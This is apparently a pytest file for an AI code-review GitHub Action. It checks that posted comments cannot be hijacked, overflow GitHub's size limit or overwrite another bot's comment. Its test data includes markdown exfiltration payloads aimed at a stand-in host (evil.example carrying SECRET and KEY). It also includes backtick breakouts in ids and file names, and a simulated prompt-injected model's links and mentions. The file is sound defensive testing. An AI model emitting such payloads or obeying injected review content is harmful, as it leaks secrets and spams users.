"""squad's own comment cannot be injected, cannot leak, always fits and is always squad's own (issue 10, 8-11).

Through `run_action` with real git, real ledger files, the loopback GitHub server (which behaves like GitHub:
403 on editing someone else's comment, 422 on a body over 65,536 characters) and an injected reviewer.
Escapes are counted by parsing the posted markdown as GitHub does (tests/md_escapes.py).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from conftest import git
from github_server import BOT, GitHubServer
from md_escapes import comment_escapes
from test_github_action import REPO, FakeReviewer, make_env, pr_event, pr_repo, sticky_comments

from squad.domain.review import Finding
from squad.github import markdown as md
from squad.github.action import run_action
from squad.github.comment import MARKER
from squad.github.env import write_outputs
from squad.github.review import ReviewOutcome

__all__ = ["pr_repo"]  # the fixture, imported for the tests here

ENTRY = (
    "## {title}\n"
    '<!-- squad-decision {{"id":"{id}","date":"2026-11-22T06:31:07Z","agent":{agent},'
    '"run":null,"supersedes":[],"tags":[]}} -->\n\n**Decision.** {decision}\n'
)
EXFIL = "![x](https://evil.example/?q=SECRET)"


def _add_decisions(info: dict[str, Any], files: dict[str, str]) -> None:
    """A PR head that adds ledger files `files` (path -> text) on top of the current head."""
    root = info["root"]
    git(root, "checkout", "-q", "changes")
    for path, text in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "decisions")
    info["head"] = git(root, "rev-parse", "HEAD").strip()
    git(root, "checkout", "-q", "main")


def _review(tmp_path: Path, gh: GitHubServer, info: dict[str, Any], reviewer: FakeReviewer | None = None) -> Any:
    env = make_env(tmp_path, gh, info["root"], "pull_request", pr_event("opened", info))
    report = run_action(env, make_reviewer=(reviewer or FakeReviewer()).factory)
    write_outputs(env, report)
    return report


def test_decision_entries_cannot_break_out_of_their_code_spans(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """Class 8: an id or file name with backticks, a malformed entry's title: no live image, link or mention."""
    evil_id = f"01JD` {EXFIL} @admins `"
    _add_decisions(
        pr_repo,
        {
            "decisions/2026/11/2026-11-22-r`[a](https://evil.example)`.md": "# Decisions\n\n"
            + ENTRY.format(title="Use `x` @here", id=evil_id, agent='"backend"', decision="ok"),
            "decisions/2026/11/2026-11-23-bob.md": "# Decisions\n\n"
            f"## {EXFIL} @security-team <img src=x> | a | b\n\nno metadata at all\n",
        },
    )
    with GitHubServer() as gh:
        _review(tmp_path, gh, pr_repo)
        [comment] = sticky_comments(gh)
    body = comment["body"]
    assert comment_escapes(body, REPO) == [], body
    assert comment_escapes((tmp_path / "summary.md").read_text(), REPO) == []
    # the values are shown, verbatim where they are code
    assert md.code(evil_id) in body  # shown verbatim, as code
    assert "security-team" in body and "metadata line; it is skipped" in body


def test_model_written_images_and_links_are_not_posted(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """Class 9: a (prompt-injected) model's images, links, autolinks, bare URLs and mentions, in the summary and in
    findings: none is live in the comment or the job summary; their text is still there."""
    hostile = (
        f"Looks good {EXFIL} see [the docs](https://evil.example/?d=KEY) or <https://evil.example/a> or "
        "https://evil.example/bare www.evil.example cc @maintainers &#64;org/team\n\n"
        '[ref]: https://evil.example/ref "t"\n\n![alt][ref] <img src="https://evil.example/i.png"> '
        "<a href='https://evil.example'>x</a>"
    )
    outcome = ReviewOutcome(
        summary=hostile,
        reviewers=["critic"],
        findings=[Finding(reviewer="critic", file="app.py", line=1, severity="minor", message=hostile)],
    )
    with GitHubServer() as gh:
        _review(tmp_path, gh, pr_repo, FakeReviewer(outcome))
        [comment] = sticky_comments(gh)
    for text in (comment["body"], (tmp_path / "summary.md").read_text()):
        assert comment_escapes(text, REPO) == [], text
        assert "the docs (link removed)" in text and "hxxps://evil.example/bare" in text
        assert "\\[image: x\\]" in text  # the image became its alt text


def test_an_oversized_report_is_capped_and_the_comment_is_updated(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """Class 10: 3,000 findings (well over GitHub's 65,536 characters): the comment leaves "running", counts what it
    left out and points to the job summary, which has them all."""
    findings = [
        Finding(reviewer="critic", file=f"src/mod{i}.py", line=i + 1, severity="minor", message=f"finding {i} " * 8)
        for i in range(3000)
    ]
    with GitHubServer() as gh:
        report = _review(tmp_path, gh, pr_repo, FakeReviewer(ReviewOutcome(findings=findings, reviewers=["critic"])))
        [comment] = sticky_comments(gh)
        assert not [c for c in gh.calls if c.method in ("POST", "PATCH") and len(str(c.body)) > 65_536]
    body = comment["body"]
    assert "squad review: approve" in body and "running" not in body
    assert len(body) < 65_536 and "more findings not shown here" in body and "job summary" in body
    shown = body.count("| minor |")
    assert 100 < shown < 3000 and f"… and {3000 - shown} more findings" in body
    summary = (tmp_path / "summary.md").read_text()
    assert summary.count("| minor |") == 3000
    assert report.exit_code == 0


def test_a_refused_body_still_replaces_running(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """Class 10: whatever GitHub refuses with a 422, the comment still leaves "running" (a short note instead)."""
    with GitHubServer() as gh:
        gh.fail("PATCH", r"/issues/comments/", 422)
        _review(tmp_path, gh, pr_repo)
        [comment] = sticky_comments(gh)
    assert "squad review: approve" in comment["body"] and "GitHub refused the full report" in comment["body"]


def test_another_bots_marker_is_not_our_comment(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """Class 11: another bot's comment with squad's marker is neither chosen nor edited; squad writes its own."""
    other = {"login": "other-app[bot]", "id": 555, "type": "Bot"}
    with GitHubServer() as gh:
        planted = gh.add_comment(2, f"{MARKER}\nplanted", other)
        _review(tmp_path, gh, pr_repo)
        ours = [c for c in sticky_comments(gh) if c["user"]["id"] == BOT["id"]]
        assert not gh.requests("PATCH", rf"/issues/comments/{planted['id']}$")
    assert planted["body"].endswith("planted")
    assert len(ours) == 1 and "squad review: approve" in ours[0]["body"]


def test_a_failed_edit_falls_back_to_a_new_comment(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """Class 11: when editing our comment fails (deleted meanwhile, or locked), the review is posted anew."""
    with GitHubServer() as gh:
        _review(tmp_path, gh, pr_repo)
        gh.fail("PATCH", r"/issues/comments/", 404)
        _review(tmp_path, gh, pr_repo)
        bodies = [c["body"] for c in sticky_comments(gh)]
    assert len(bodies) == 2 and all("squad review: approve" in b for b in bodies[1:])


def test_a_user_token_is_identified_by_rest_when_graphql_fails(tmp_path: Path, pr_repo: dict[str, Any]) -> None:
    """A personal token: GET /user names it; only its own marker comment is edited."""
    with GitHubServer() as gh:
        gh.me = {"login": "squad-bot", "id": 4242, "type": "User"}
        gh.fail("POST", r"^/graphql$", 401, times=10)
        gh.add_comment(2, f"{MARKER}\nby the actions bot", dict(BOT))
        mine = gh.add_comment(2, f"{MARKER}\nmine", dict(gh.me))
        _review(tmp_path, gh, pr_repo)
        assert gh.requests("GET", r"^/user$")
        patches = gh.requests("PATCH", r"/issues/comments/")
    assert patches and all(p.path.endswith(f"/{mine['id']}") for p in patches)
    assert "squad review: approve" in mine["body"]
